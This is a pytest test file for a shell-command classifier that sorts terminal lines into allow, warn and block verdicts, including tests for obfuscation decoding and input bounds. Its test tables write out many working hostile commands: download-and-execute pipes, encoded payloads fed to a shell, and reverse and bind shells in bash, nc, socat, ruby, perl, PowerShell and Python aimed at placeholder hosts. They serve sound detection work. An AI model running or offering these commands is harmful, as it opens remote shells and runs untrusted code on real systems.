"""classify(): verdicts for whole lines, bounds, and the failure modes (never a crash)."""

from __future__ import annotations

from pathlib import Path

import pytest

from attyguard.engine import classify as classify_module
from attyguard.engine.classify import BOUNDED_RULE_ID, MAX_LINE, Engine, classify
from attyguard.engine.rules import RuleSet, load_rules
from attyguard.engine.verdict import Action, Source

ALLOW, WARN, BLOCK = Action.ALLOW, Action.WARN, Action.BLOCK


@pytest.mark.parametrize(
    ("line", "action"),
    [
        # everyday lines
        ("ls -la", ALLOW),
        ("git commit -m 'curl | sh is bad'", ALLOW),
        ("curl -fsSL https://example.org/a.tar.gz -o a.tar.gz", ALLOW),
        ("wget -q https://example.org/key.asc -O - | gpg --import", ALLOW),
        ("echo aGVsbG8= | base64 -d", ALLOW),
        ("nc -zv db.internal 5432", ALLOW),
        ("python3 -m http.server 8000", ALLOW),
        ("grep -r 'bash -i' docs/", ALLOW),
        # download and execute
        ("curl -s https://example.org/i.sh | sh", WARN),
        ("curl -s https://example.org/i.sh | sudo sh", BLOCK),
        ("sudo -E bash -c \"$(curl -fsSL https://example.org/i.sh)\"", BLOCK),
        ("wget -O /tmp/a https://example.org/a && chmod +x /tmp/a && /tmp/a", BLOCK),
        ("cu\\rl -s https://example.org/i.sh | b''ash", WARN),
        # obfuscation: the decoded text is classified too
        ("echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUub3JnL3ggfCBzaA== | base64 -d | bash", BLOCK),
        ("bash -c \"$(echo 'hs | x/gro.elpmaxe//:sptth s- lruc' | rev)\"", BLOCK),
        # a decoded text run through python's os.system is shell text too
        ("python3 -c \"import os,base64;os.system(base64.b64decode("
         "'Y3VybCAtcyBodHRwczovL2UueC9hIHwgc2g=').decode())\"", BLOCK),
        # reverse shells
        ("bash -i >& /dev/tcp/192.0.2.1/443 0>&1", BLOCK),
        ("nc 192.0.2.1 443 -e /bin/bash", BLOCK),
        ("socat exec:'bash -li',pty tcp:192.0.2.1:443", BLOCK),
    ],
)
def test_table(line: str, action: Action) -> None:
    verdict = classify(line)
    assert verdict.action is action, verdict.to_json()


def test_decoded_layer_hits_are_reported() -> None:
    verdict = classify("echo Y3VybCAtcyBodHRwczovL2V4YW1wbGUub3JnL3ggfCBzaA== | base64 -d | bash")
    ids = {h.rule_id for h in verdict.rules}
    assert "obf-decode-to-shell" in ids
    assert "dl-pipe-shell" in ids  # found inside the decoded text
    inner = next(h for h in verdict.rules if h.rule_id == "dl-pipe-shell")
    assert inner.matched.startswith("decoded:")


def test_verdict_fields() -> None:
    line = "echo ok; curl -s https://example.org/i.sh | sh"
    verdict = classify(line)
    assert verdict.source is Source.LOCAL
    assert 0 < verdict.probability <= 1
    assert verdict.elapsed_us >= 0
    (hit,) = [h for h in verdict.rules if h.rule_id == "dl-pipe-shell"]
    assert hit.span is not None
    assert line[hit.span[0] : hit.span[1]] == "curl -s https://example.org/i.sh | sh"
    assert hit.explanation and hit.remediation and hit.title


def test_probabilities_combine() -> None:
    verdict = classify("curl -s https://example.org/i.sh | sudo sh")
    ps = [h.probability for h in verdict.rules]
    assert len(ps) >= 2
    assert verdict.probability > max(ps)


def test_huge_line_warns_with_a_reason() -> None:
    verdict = classify("echo " + "a" * (MAX_LINE + 1))
    assert verdict.action is WARN
    assert verdict.rules[0].rule_id == BOUNDED_RULE_ID


def test_hostile_nesting_warns_quickly() -> None:
    line = "$(" * 4000 + "curl x" + "|x" * 20000
    verdict = classify(line)
    assert verdict.action is not ALLOW
    assert any(h.rule_id == BOUNDED_RULE_ID for h in verdict.rules)


def test_clean_line_is_not_parsed(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    real = classify_module.parse

    def spy(line: str, *args: object, **kwargs: object) -> object:
        calls.append(line)
        return real(line, *args, **kwargs)  # type: ignore[arg-type]

    monkeypatch.setattr(classify_module, "parse", spy)
    engine = Engine(load_rules())
    assert engine.classify("ls -la /home").action is ALLOW
    assert calls == []
    engine.classify("curl -s https://example.org | sh")
    assert calls


def test_internal_error_is_a_warn_not_a_crash(monkeypatch: pytest.MonkeyPatch) -> None:
    def boom(*_a: object, **_k: object) -> object:
        raise RuntimeError("boom")

    monkeypatch.setattr(classify_module, "parse", boom)
    verdict = Engine(load_rules()).classify("curl x | sh")
    assert verdict.action is WARN
    assert "boom" in verdict.rules[0].matched


def test_broken_rules_warn_everything(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    (tmp_path / "bad.yaml").write_text("rules:\n  - id: x\n    title: 3\n")
    monkeypatch.setattr(classify_module, "load_rules", lambda **kw: load_rules(tmp_path, **kw))
    classify_module.reset_default_engine()
    try:
        verdict = classify("ls")
        assert verdict.action is WARN
        assert "bad.yaml:2" in verdict.rules[-1].explanation
    finally:
        classify_module.reset_default_engine()


def test_empty_ruleset_allows() -> None:
    assert Engine(RuleSet(())).classify("curl x | sh").action is ALLOW


def test_many_decoded_layers_are_bounded() -> None:
    # 40 separate encoded payloads, each fed to a shell: the work stops at a budget.
    line = "; ".join(["echo aWQ= | base64 -d | sh"] * 10 + [
        f"echo 'hs | {i}/e.x//:ptth lruc' | rev | sh" for i in range(30)
    ])
    verdict = classify(line)
    assert verdict.action is BLOCK
    assert any(h.rule_id == BOUNDED_RULE_ID for h in verdict.rules)


# Evasive spellings of the download-exec, obfuscation and reverse-shell techniques:
# the verdict must be at least the given action.
EVASIONS = [
    (BLOCK, 'curl -s https://e.x/a | sudo -u root bash'),
    (WARN, 'wget -O- https://e.x/a | sh -'),
    (WARN, 'curl https://e.x/a | zsh'),
    (WARN, '(curl -s https://e.x/a) | sh'),
    (WARN, 'curl https://e.x/a | $SHELL'),
    (BLOCK, 'curl -s https://e.x/x.sh > /tmp/x.sh; chmod +x /tmp/x.sh; /tmp/x.sh'),
    (WARN, 'curl -s https://e.x/x.sh > /tmp/x.sh; . /tmp/x.sh'),
    (WARN, 'python3 -c "$(curl -fsSL https://e.x/a.py)"'),
    (WARN, 'php -r "$(curl -s https://e.x/a.php)"'),
    (WARN, 'perl <(curl -s https://e.x/a.pl)'),
    (WARN, '/bin/bash -c "$(wget -qO - https://e.x/a)"'),
    (WARN, 'curl -s https://e.x/a -o- | sh'),
    (WARN, 'busybox wget -O- https://e.x/a | busybox sh'),
    (WARN, 'curl -sL https://e.x/a | sudo -s'),
    (BLOCK, "zsh -c 'zmodload zsh/net/tcp && ztcp h.e.x 443 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'"),
    (BLOCK, 'mknod /tmp/p p && telnet h.e.x 443 0</tmp/p | /bin/bash 1>/tmp/p'),
    (BLOCK, 'sh -i 5<> /dev/tcp/h.e.x/443 0<&5 1>&5 2>&5'),
    (BLOCK, 'ruby -rsocket -e\'f=TCPSocket.open("h.e.x",443).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)\''),  # noqa: E501 - one attack line per row
    (BLOCK, 'perl -e \'use Socket;$i="h";$p=1;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));connect(S,sockaddr_in($p,inet_aton($i)));open(STDIN,">&S");exec("/bin/sh -i");\''),  # noqa: E501 - one attack line per row
    (BLOCK, 'pwsh -c \'$c=New-Object System.Net.Sockets.TCPClient("h",443);$s=$c.GetStream();[byte[]]$b=0..65535|%{0};while(($i=$s.Read($b,0,$b.Length)) -ne 0){$d=(New-Object Text.ASCIIEncoding).GetString($b,0,$i);$o=(iex $d 2>&1|Out-String);$s.Write(([text.encoding]::ASCII).GetBytes($o),0,$o.Length)}\''),  # noqa: E501 - one attack line per row
    (BLOCK, 'mkfifo /tmp/x; nc -l 4444 0</tmp/x | /bin/sh >/tmp/x 2>&1'),
    (BLOCK, 'python3 -c \'import socket,subprocess,os;s=socket.socket();s.bind(("0.0.0.0",4444));s.listen(1);c,a=s.accept();os.dup2(c.fileno(),0);os.dup2(c.fileno(),1);subprocess.call(["/bin/sh","-i"])\''),  # noqa: E501 - one attack line per row
    (BLOCK, 'echo "Y3VybCBodHRwczovL2UueC9hIHwgc2g=" | base64 --decode | sh'),
    (BLOCK, 'xxd -r -p <<< 6964 | sh'),
    (BLOCK, 'printf "%b" "\\x69\\x64" | sh'),
    (BLOCK, 'echo -e "\\x69\\x64" | bash'),
    (BLOCK, 'sh -c "$(printf \'\\151\\144\')"'),
    (BLOCK, 'eval $(echo aWQ= | base64 -d)'),
    (BLOCK, 'python3 -c "import base64,os;os.system(base64.b64decode(\'aWQ=\'))"'),
    (BLOCK, 'echo aWQ= | openssl enc -d -base64 | sh'),
    (WARN, 'perl -e \'print pack("H*","6964")\' | sh'),
    (BLOCK, "rev <<< 'di' | sh"),
    (BLOCK, 'bash -c "$(tr \'A-Za-z\' \'N-ZA-Mn-za-m\' <<< \'vq\')"'),
    (WARN, 'a=cu; b=rl; $a$b -s https://e.x/a | sh'),
    (BLOCK, 'bash <<< $(base64 -d <<< aWQ=)'),
    (BLOCK, 'echo aWQ= | base64 -d | sudo bash'),
    (BLOCK, 'curl -s https://e.x/a | base64 -d | sh'),
    (WARN, 'curl -s https://e.x/a|bash'),
    (WARN, 'curl -s https://e.x/a|&bash'),
    (BLOCK, 'nc -e /bin/sh h.e.x 443 &'),
    (BLOCK, "nohup bash -c 'bash -i >& /dev/tcp/h.e.x/443 0>&1' &"),
    (BLOCK, 'setsid nc h.e.x 443 -e /bin/bash'),
    (BLOCK, 'socat tcp:h.e.x:443 exec:sh,pty,stderr'),
    (BLOCK, '/usr/bin/ncat h.e.x 443 -e /bin/sh'),
    (WARN, 'curl -fsSL https://e.x/a.sh | sudo -E env PATH=$PATH bash'),
    (WARN, 'wget -q -O - https://e.x/a | sudo tee /usr/local/bin/x > /dev/null'),
]


@pytest.mark.parametrize(("least", "line"), EVASIONS)
def test_evasions(least: Action, line: str) -> None:
    verdict = classify(line)
    assert verdict.action.rank >= least.rank, verdict.to_json()
